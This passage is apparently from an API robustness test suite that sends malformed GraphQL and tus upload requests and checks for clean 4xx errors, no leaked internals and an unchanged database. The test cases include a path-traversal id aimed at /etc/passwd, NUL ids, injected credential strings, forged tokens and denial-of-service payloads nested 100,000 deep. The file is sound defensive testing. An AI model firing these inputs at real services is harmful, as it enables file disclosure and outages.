        init: { method: 'POST', headers: json, body: JSON.stringify({ query: 'mutation {{{ createTenant(' }) },
      },
      {
        label: 'unknown operationName',
        init: {
          method: 'POST',
          headers: json,
          body: JSON.stringify({ query: 'query A { viewer { identity { id } } }', operationName: 'B' }),
        },
      },
      {
        label: 'a body over the 1 MiB limit',
        init: {
          method: 'POST',
          headers: json,
          body: JSON.stringify({ query: `{ viewer { identity { id } } } # ${'x'.repeat(1_200_000)}` }),
        },
      },
      {
        label: 'a query of 900 kB of tokens',
        init: { method: 'POST', headers: json, body: JSON.stringify({ query: `{ ${'viewer '.repeat(128_000)} }` }) },
      },
      {
        label: 'a selection nested 100 000 deep',
        init: {
          method: 'POST',
          headers: json,
          body: JSON.stringify({ query: `${'{ viewer '.repeat(100_000)}${'}'.repeat(100_000)}` }),
        },
      },
      {
        label: 'a list nested 100 000 deep in an argument',
        init: {
          method: 'POST',
          headers: json,
          body: JSON.stringify({
            query: `mutation { revokeApiKey(id: ${'['.repeat(100_000)}${']'.repeat(100_000)}) { id } }`,
          }),
        },
      },
      {
        label: 'text/plain body',
        init: {
          method: 'POST',
          headers: { 'content-type': 'text/plain', ...auth },
          body: '{ viewer { identity { id } } }',
        },
      },
      {
        label: 'no content type',
        init: { method: 'POST', headers: auth, body: JSON.stringify({ query: '{ viewer { identity { id } } }' }) },
      },
      {
        label: 'unsupported charset',
        init: {
          method: 'POST',
          headers: { 'content-type': 'application/json; charset=koi8-r', ...auth },
          body: JSON.stringify({ query: '{ viewer { identity { id } } }' }),
        },
      },
      {
        label: 'a mutation over GET',
        url: `${url}?query=${encodeURIComponent('mutation { revokeApiKey(id: "x") { id } }')}`,
        init: { method: 'GET', headers: { ...auth, 'apollo-require-preflight': 'true' } },
      },
      {
        label: 'an Authorization header of 20 kB',
        init: {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${'a'.repeat(20_000)}` },
          body: JSON.stringify({ query: '{ viewer { identity { id } } }' }),
        },
      },
    ];
    const problems: string[] = [];
    for (const attempt of attempts) {
      const response = await fetch(attempt.url ?? url, attempt.init);
      const text = await response.text();
      if (response.status < 400 || response.status >= 500) {
        problems.push(`${attempt.label}: HTTP ${response.status} ${text.slice(0, 200)}`);
      } else if (hasStackTrace(text)) {
        problems.push(`${attempt.label}: HTTP ${response.status} leaks internals: ${text.slice(0, 300)}`);
      } else if (text.startsWith('{')) {
        const codes = ((JSON.parse(text) as Answer['body']).errors ?? []).map((error) => error.extensions?.code ?? '');
        const foreign = codes.filter((code) => !CONTRACT_CODES.has(code));
        if (foreign.length > 0)
          problems.push(`${attempt.label}: HTTP ${response.status} with codes ${foreign.join(', ')}`);
      }
    }
    // Credentials that are not credentials are UNAUTHENTICATED, whatever they contain.
    for (const forged of [...INJECTIONS.slice(0, 3), 'ech_000000000000_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', ' ']) {
      const answer = await post(env.apiUrl, forged, { query: '{ viewer { identity { id } } }' });
      const code = answer.body.errors?.[0]?.extensions?.code;
      if (code !== 'UNAUTHENTICATED')
        problems.push(`forged credential ${JSON.stringify(forged)}: ${code ?? answer.status}`);
    }
    expect.soft(problems).toEqual([]);
    expect(countDiff(baseline, await rowCounts(env.db))).toBe('');
  }, 60_000);

  it('answers malformed tus requests at /uploads with clean 4xx', async () => {
    const url = `${env.apiUrl}/uploads`;
    const tus = { 'tus-resumable': '1.0.0' };
    const auth = { authorization: `Bearer ${secrets.admin}` };
    const create = (headers: Record<string, string>): RequestInit => ({
      method: 'POST',
      headers: { ...tus, ...headers },
    });
    const patch = (offset: string, headers: Record<string, string> = {}): RequestInit => ({
      method: 'PATCH',
      headers: {
        ...tus,
        ...auth,
        'upload-offset': offset,
        'content-type': 'application/offset+octet-stream',
        ...headers,
      },
      body: Buffer.from('0123456789'),
    });
    const unknown = `${url}/${randomUUID()}`;
    const attempts: { label: string; url?: string; init: RequestInit }[] = [
      { label: 'create without credentials', init: create({ 'upload-length': '10' }) },
      {
        label: 'create with an injected credential',
        init: create({ 'upload-length': '10', authorization: `Bearer ${INJECTIONS[0]}` }),
      },
      {
        label: 'create as a platform credential',
        init: create({ 'upload-length': '10', authorization: `Bearer ${BOOTSTRAP}` }),
      },
      { label: 'Upload-Length not a number', init: create({ ...auth, 'upload-length': 'abc' }) },
      { label: 'negative Upload-Length', init: create({ ...auth, 'upload-length': '-5' }) },
      { label: 'fractional Upload-Length', init: create({ ...auth, 'upload-length': '1.5' }) },
      { label: 'Upload-Length of 30 digits', init: create({ ...auth, 'upload-length': '9'.repeat(30) }) },
      { label: 'Upload-Length beyond the maximum', init: create({ ...auth, 'upload-length': String(2 * 1024 ** 4) }) },
      { label: 'no Upload-Length', init: create({ ...auth }) },
      { label: 'deferred length', init: create({ ...auth, 'upload-defer-length': '1' }) },
      { label: 'both lengths', init: create({ ...auth, 'upload-length': '10', 'upload-defer-length': '1' }) },
      {
        label: 'malformed metadata',
        init: create({ ...auth, 'upload-length': '10', 'upload-metadata': 'filename ***' }),
      },
      { label: 'no Tus-Resumable', init: { method: 'POST', headers: { ...auth, 'upload-length': '10' } } },
      { label: 'unsupported tus version', init: create({ ...auth, 'upload-length': '10', 'tus-resumable': '0.1' }) },
      { label: 'HEAD of an unknown upload', url: unknown, init: { method: 'HEAD', headers: { ...tus, ...auth } } },
      { label: 'GET of an unknown upload', url: unknown, init: { method: 'GET', headers: { ...tus, ...auth } } },
      { label: 'PATCH of an unknown upload', url: unknown, init: patch('0') },
      { label: 'DELETE of an unknown upload', url: unknown, init: { method: 'DELETE', headers: { ...tus, ...auth } } },
      {
        label: 'HEAD of an injected id',
        url: `${url}/${encodeURIComponent(INJECTIONS[0] as string)}`,
        init: { method: 'HEAD', headers: { ...tus, ...auth } },
      },
      {
        label: 'HEAD of a traversal id',
        url: `${url}/..%2F..%2Fetc%2Fpasswd`,
        init: { method: 'HEAD', headers: { ...tus, ...auth } },
      },
      { label: 'HEAD of a NUL id', url: `${url}/%00`, init: { method: 'HEAD', headers: { ...tus, ...auth } } },
      { label: 'PATCH of a NUL id', url: `${url}/%00`, init: patch('0') },
      { label: 'HEAD without credentials', url: `${url}/${known.uploadId}`, init: { method: 'HEAD', headers: tus } },
      { label: 'GET without credentials', url: `${url}/${known.uploadId}`, init: { method: 'GET', headers: tus } },
      {
        label: 'PATCH without credentials',
        url: `${url}/${known.uploadId}`,
        init: { ...patch('0'), headers: { ...tus } },
      },
    ];
    const problems: string[] = [];
    const check = async (label: string, target: string, init: RequestInit) => {
      const response = await fetch(target, init);
      const text = await response.text();
      if (response.status < 400 || response.status >= 500) {
        problems.push(`${label}: HTTP ${response.status} ${text.slice(0, 200)}`);
      } else if (hasStackTrace(text)) {
        problems.push(`${label}: HTTP ${response.status} leaks internals: ${text.slice(0, 300)}`);
      }
    };
    for (const attempt of attempts) await check(attempt.label, attempt.url ?? url, attempt.init);
    expect.soft(problems).toEqual([]);
    expect(countDiff(baseline, await rowCounts(env.db))).toBe('');

    // On an upload of one's own: a wrong offset, a wrong content type, a negative offset, too many bytes.
    const created = await fetch(url, create({ ...auth, 'upload-length': '10' }));
    expect(created.status).toBe(201);
    const own = `${env.apiUrl}${new URL(created.headers.get('location') ?? '', env.apiUrl).pathname}`;
    baseline = { ...baseline, uploads: (baseline.uploads ?? 0) + 1 };
    await check('PATCH at a wrong offset', own, patch('5'));
    await check('PATCH at a negative offset', own, patch('-1'));
    await check('PATCH with a wrong content type', own, patch('0', { 'content-type': 'application/json' }));
    await check('PATCH beyond Upload-Length', own, { ...patch('0'), body: Buffer.alloc(64) });
    expect.soft(problems).toEqual([]);
    const head = await fetch(own, { method: 'HEAD', headers: { ...tus, ...auth } });
    expect(head.status).toBe(200);
    expect(head.headers.get('upload-offset')).toBe('0');
    expect(countDiff(baseline, await rowCounts(env.db))).toBe('');
  }, 60_000);

  it('is still up afterwards and the database holds exactly what it held before', async () => {
    const { viewer } = await gqlOk<{ viewer: { identity: { id: string } } }>(
      env.apiUrl,
      secrets.admin as string,
      '{ viewer { identity { id } } }',
    );
    expect(viewer.identity.id).toBe(seeded.adminIdentityId);
    expect((await fetch(`${env.apiUrl}/health`)).status).toBe(200);
    expect(countDiff(baseline, await rowCounts(env.db))).toBe('');
    expect(await env.db.tenant.count({ where: { slug: { startsWith: 'fuzz-' }, NOT: { id: seeded.tenant.id } } })).toBe(
      0,
    );
  });
});
